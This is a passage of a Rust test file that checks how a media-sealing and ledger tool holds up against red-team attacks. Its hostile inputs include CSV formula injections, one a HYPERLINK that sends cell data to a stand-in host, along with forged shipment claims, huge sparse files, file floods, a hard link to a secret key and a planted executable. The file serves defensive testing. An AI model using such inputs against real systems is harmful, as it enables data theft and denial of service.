    let out = t.path("out");
    let o = run(Command::new("sh")
        .arg("-c")
        .arg("umask 022 && exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_isou"))
        .env("ISOU_LEDGER", &t.ledger)
        .env("ISOU_POLICY", "")
        .env("XDG_CONFIG_HOME", t.path("no-config"))
        .args(["open", "--signer", &t.p.card, "-i"])
        .arg(&t.p.recipient)
        .arg("--out")
        .arg(&out)
        .arg(&m));
    assert!(o.status.success(), "{}", stderr(&o));
    let mode = |p: &Path| fs::metadata(p).unwrap().permissions().mode() & 0o777;
    assert_eq!(mode(&out), 0o700);
    assert_eq!(mode(&out.join("extract")), 0o700);
    assert_eq!(mode(&out.join("extract/sub")), 0o700);
    assert_eq!(mode(&out.join("extract/sub/b.csv")), 0o600);
}

// 17 ─ formulas in the register ────────────────────────────────────────────────────

#[test]
fn full_width_formula_starts_from_a_medium_are_text_in_the_register() {
    let t = setup(1, 1000);
    let (k, public) = other_key();
    let m = keyed_medium(
        t.p.dir.path(),
        "m",
        &tar_with_contents(&[], "ISOU-20261203-KEYED222", &[]),
        &t.recipient_key(),
        &[
            ("Source-Organization", "＝HYPERLINK(\"http://x/?\"&A1)"),
            ("Destination", "＠SUM(1)"),
            // A formula as the tracking number is no longer VALID at all (seal never
            // writes one: redteam19.rs f3), so a real number here.
            ("Tracking-Number", "13112383852"),
        ],
        &k,
    );
    // A keyed sender the recipient trusts: the fields are authenticated and reach the
    // register's own columns.
    let o = t.verify(&[&m], &["--signer", &public]);
    assert!(o.status.success(), "{}", stdout(&o));
    let o = run(t.isou().args(["record", "export", "--format", "csv"]));
    let mut r = csv::Reader::from_reader(&o.stdout[3..]);
    let cells: Vec<String> = r
        .records()
        .flat_map(|x| x.unwrap().iter().map(str::to_string).collect::<Vec<_>>())
        .collect();
    for start in ['=', '+', '-', '@', '＝', '＋', '－', '＠'] {
        assert!(
            !cells.iter().any(|c| c.starts_with(start)),
            "{start}: {cells:?}"
        );
    }
    assert!(
        cells.iter().any(|c| c == "'＝HYPERLINK(\"http://x/?\"&A1)"),
        "{cells:?}"
    );
    assert!(cells.iter().any(|c| c == "'＠SUM(1)"), "{cells:?}");
}

// Found by the outsider's and keyed sender's attack on this change (red team) ──────

/// The External-Identifier of a sealed medium.
fn shipment_of(m: &Path) -> String {
    fs::read_to_string(m.join("bag-info.txt"))
        .unwrap()
        .lines()
        .find_map(|l| l.strip_prefix("External-Identifier: ").map(str::to_string))
        .unwrap()
}

/// Events of the ledger for `shipment`, by kind.
fn kinds_of(t: &T, shipment: &str) -> Vec<String> {
    t.events()
        .iter()
        .filter(|e| e["shipment"] == shipment)
        .map(|e| e["kind"].as_str().unwrap().to_string())
        .collect()
}

#[test]
fn any_sender_never_records_under_a_real_shipment() {
    let t = setup(1, 1000);
    let m = t.seal("usb", &[]);
    let id = shipment_of(&m);
    // An outsider's own key, claiming our shipment; opened with --any-sender.
    let (k, _) = other_key();
    let evil = keyed_medium(
        t.p.dir.path(),
        "evil",
        &tar_with_contents(&[], &id, &[]),
        &t.recipient_key(),
        &[("External-Identifier", &id)],
        &k,
    );
    let o = t.open(&evil, &t.path("out"), &["--any-sender"]);
    assert!(o.status.success(), "{}", stderr(&o));
    assert_eq!(kinds_of(&t, &id), ["sealed"]);
    let opened: Vec<_> = t
        .events()
        .into_iter()
        .filter(|e| e["kind"] == "opened")
        .collect();
    assert!(opened[0]["shipment"]
        .as_str()
        .unwrap()
        .starts_with("MEDIUM-"));
    assert_eq!(opened[0]["body"]["claimed_shipment"], id.as_str());
    let o = run(t.isou().args(["record", "list", "--open", "--json"]));
    let open: Vec<serde_json::Value> = serde_json::from_slice(&o.stdout).unwrap();
    assert!(open.iter().any(|e| e["shipment"] == id.as_str()));
}

/// A partner trusted for their own shipments who signs a medium claiming another
/// sender's shipment id cannot capture it (red team 15 finding 03 turned the earlier
/// refusal around: whoever claimed first would have kept the row): both are recorded
/// under the id as contested, loudly, and the row names both keys.
#[test]
fn a_trusted_partner_cannot_capture_another_senders_shipment() {
    let mut t = setup(1, 1000);
    // Partner A's shipment (sealed in A's ledger), received and verified here.
    let a_ledger = t.path("a.sqlite");
    let here = std::mem::replace(&mut t.ledger, a_ledger);
    let m = t.seal("usb", &[]);
    t.ledger = here;
    let id = shipment_of(&m);
    assert!(t.verify(&[&m], &["--signer", &t.p.card]).status.success());
    // Partner B, trusted for B's own shipments, signs a medium claiming A's.
    let (b, b_public) = other_key();
    let forged = keyed_medium(
        t.p.dir.path(),
        "b",
        &tar_with_contents(&[], &id, &[]),
        &t.recipient_key(),
        &[("External-Identifier", &id)],
        &b,
    );
    let o = t.verify(&[&forged], &["--signer", &b_public]);
    assert_eq!(o.status.code(), Some(0), "{}", stdout(&o));
    assert!(
        stderr(&o).contains("SHIPMENT ID CONTESTED"),
        "{}",
        stderr(&o)
    );
    assert_eq!(
        kinds_of(&t, &id),
        ["received", "verified", "received", "verified"]
    );
    let contested = t.events().last().unwrap()["body"]["contested"].clone();
    assert_eq!(contested.as_array().map(Vec::len), Some(1), "{contested}");
}

#[test]
fn huge_sparse_files_on_a_medium_are_not_read() {
    let t = setup(1, 1000);
    let signer = ["--signer", t.p.card.as_str()];
    // A tag file of 100 GB (sparse: it costs nothing to make).
    let m = t.seal("tag", &[]);
    fs::OpenOptions::new()
        .write(true)
        .open(m.join("README.txt"))
        .unwrap()
        .set_len(100 << 30)
        .unwrap();
    let o = run_within(t.isou().arg("verify").args(signer).arg(&m), 30);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("more than a tag file may hold"),
        "{}",
        stdout(&o)
    );
    // A segment of 100 GB: larger than the signed Payload-Oxum, never hashed.
    let m = t.seal("segment", &[]);
    fs::OpenOptions::new()
        .write(true)
        .open(m.join("data/payload.000"))
        .unwrap()
        .set_len(100 << 30)
        .unwrap();
    let o = run_within(t.isou().arg("verify").args(signer).arg(&m), 30);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("larger than stated: not hashed"),
        "{}",
        stdout(&o)
    );
    let o = t.open_within(&m, &t.path("out"), 30);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("the signed Payload-Oxum says"),
        "{}",
        stderr(&o)
    );
}

#[test]
fn deep_folders_and_floods_of_entries_are_bounded() {
    let t = setup(1, 1000);
    let signer = ["--signer", t.p.card.as_str()];
    let m = t.seal("deep", &[]);
    let mut d = m.join("data");
    for _ in 0..300 {
        d.push("d");
    }
    fs::create_dir_all(&d).unwrap();
    let o = run_within(t.isou().arg("verify").args(signer).arg(&m), 30);
    assert_eq!(o.status.code(), Some(1), "{}", stdout(&o));
    assert!(
        stdout(&o).contains("nested more than 64 deep"),
        "{}",
        stdout(&o)
    );
    // 120 000 stray files at the root: refused, with bounded output and memory.
    let m = t.seal("flood", &[]);
    for i in 0..120_000 {
        fs::File::create(m.join(format!("stray-file-with-a-long-name-{i:06}"))).unwrap();
    }
    for args in [&["--json"][..], &[][..]] {
        let o = run_within(
            limited(&t, 600_000)
                .arg("verify")
                .args(signer)
                .args(args)
                .arg(&m),
            60,
        );
        assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
        assert!(
            o.stdout.len() < 200_000,
            "{} bytes of output",
            o.stdout.len()
        );
        assert!(
            stdout(&o).contains("more than 100000 entries"),
            "{}",
            stdout(&o)
        );
    }
    let o = t.open_within(&m, &t.path("out"), 60);
    assert_eq!(o.status.code(), Some(1), "{}", stderr(&o));
}

#[test]
fn a_hard_link_to_the_readers_identity_never_prints_the_key() {
    let t = setup(1, 1000);
    let m = t.seal("usb", &[]);
    fs::remove_file(m.join("bag-info.txt")).unwrap();
    fs::hard_link(&t.p.recipient, m.join("bag-info.txt")).unwrap();
    let secret = fs::read_to_string(&t.p.recipient).unwrap();
    let seed = secret
        .lines()
        .find_map(|l| l.strip_prefix("# ISOU-SIGNING-KEY-ED25519: "))
        .unwrap();
    let age_key = secret
        .lines()
        .find(|l| l.starts_with("AGE-SECRET-KEY-"))
        .unwrap();
    for args in [
        &["--json"][..],
        &[][..],
        &["--signer", t.p.card.as_str()][..],
    ] {
        let o = t.verify(&[&m], args);
        let all = format!("{}{}", stdout(&o), stderr(&o));
        assert!(
            !all.contains(seed) && !all.contains(&age_key[20..]),
            "{all}"
        );
        assert!(all.contains("looks like a secret key"), "{all}");
    }
}

#[test]
fn a_hostile_structure_is_not_called_a_read_error() {
    let t = setup(1, 1000);
    let m = t.seal("usb", &[]);
    fs::remove_file(m.join("manifest-sha256.txt")).unwrap();
    mkfifo(&m.join("manifest-sha256.txt"));
    let o = run_within(
        t.isou().arg("verify").args(["--signer", &t.p.card]).arg(&m),
        30,
    );
    assert_eq!(o.status.code(), Some(1));
    assert!(stderr(&o).contains("do not open it"), "{}", stderr(&o));
    assert!(!stderr(&o).contains("clean the disc"), "{}", stderr(&o));
}

#[test]
fn open_refuses_files_planted_beside_the_signed_bag() {
    let t = setup(1, 1000);
    let signer = ["--signer", t.p.card.as_str()];
    for (name, planted) in [
        ("segment", "data/payload.001"),
        ("program", "READ-ME-FIRST.exe"),
        ("manifest", "manifest-md5.txt"),
    ] {
        let m = t.seal(name, &[]);
        fs::write(m.join(planted), b"MZ").unwrap();
        let out = t.path(&format!("{name}-out"));
        let o = t.open(&m, &out, &signer);
        assert_eq!(o.status.code(), Some(1), "{planted}: {}", stderr(&o));
        assert!(
            stderr(&o).contains("outside the signed bag"),
            "{planted}: {}",
            stderr(&o)
        );
        assert!(stderr(&o).contains(planted), "{planted}: {}", stderr(&o));
        assert!(!out.exists());
    }
}

#[test]
fn an_scrypt_work_factor_beyond_the_memory_is_refused_not_a_crash() {
    let t = setup(1, 1000);
    // A passphrase file made at 2^10, its stanza then saying 2^22 (4 GiB of memory).
    let pass = t.path("pass.txt");
    write_private(&pass, b"correct horse battery staple\n");
    let mut enc = Vec::new();
    {
        let mut w = isou::engine::Encryptor::with_passphrase(
            age::secrecy::SecretString::from("correct horse battery staple".to_string()),
            Some(10),
        )
        .wrap_output(&mut enc, Default::default())
        .unwrap();
        w.write_all(b"registry data").unwrap();
        w.finish().unwrap();
    }
    let text_end = enc.windows(4).position(|w| w == b"\n---").unwrap();
    let head = String::from_utf8(enc[..text_end].to_vec()).unwrap();
    assert!(head.contains(" 10\n"), "{head}");
    let head = head.replace(" 10\n", " 22\n");
    let mut file = head.into_bytes();
    file.extend_from_slice(&enc[text_end..]);
    let f = t.path("big-work.age");
    fs::write(&f, file).unwrap();
    // 1.5 GB of address space: the 4 GiB allocation cannot succeed.
    let o = run_within(
        limited(&t, 1_500_000)
            .args(["decrypt", "--passphrase-file"])
            .arg(&pass)
            .arg("-o")
            .arg(t.path("plain"))
            .arg(&f),
        60,
    );
    assert_eq!(o.status.code(), Some(2), "{}", stderr(&o));
    assert!(
        stderr(&o).contains("needs 4096 MiB of memory"),
        "{}",
        stderr(&o)
    );
    assert!(!t.path("plain").exists());
}

#[test]
fn a_keyed_senders_ambiguous_bag_info_is_refused() {
    let t = setup(1, 1000);
    let (k, public) = other_key();
    for (name, fields, expect) in [
        (
            "twice",
            vec![("External-Identifier", "S"), ("External-Identifier", "T")],
            "gives External-Identifier 2 times",
        ),
        (
            "oxum",
            vec![("Payload-Oxum", "lots")],
            "is not OCTETS.FILES",
        ),
        (
            "date",
            vec![("Bagging-Date", "9999-99-99")],
            "is not a date",
        ),
    ] {
        let m = keyed_medium(
            t.p.dir.path(),
            name,
            &tar_with_contents(&[], "S", &[]),
            &t.recipient_key(),
            &fields,
            &k,
        );
        let o = t.verify(&[&m], &["--signer", &public]);
        assert_eq!(o.status.code(), Some(1), "{name}: {}", stdout(&o));
        assert!(stdout(&o).contains(expect), "{name}: {}", stdout(&o));
        let o = t.open(&m, &t.path(&format!("{name}-out")), &["--signer", &public]);
        assert_eq!(o.status.code(), Some(1), "{name}: {}", stderr(&o));
        assert!(stderr(&o).contains(expect), "{name}: {}", stderr(&o));
    }
    // A tracking number signed in its printed form is the same number.
    let m = keyed_medium(
        t.p.dir.path(),
        "printed",
        &tar_with_contents(&[], "ISOU-20261203-KEYED222", &[]),
        &t.recipient_key(),
        &[("Tracking-Number", "131-12-38385-2")],
        &k,
    );
    let o = t.verify(
        &[&m],
        &["--signer", &public, "--tracking-number", "13112383852"],
    );
    assert!(o.status.success(), "{}", stdout(&o));
}
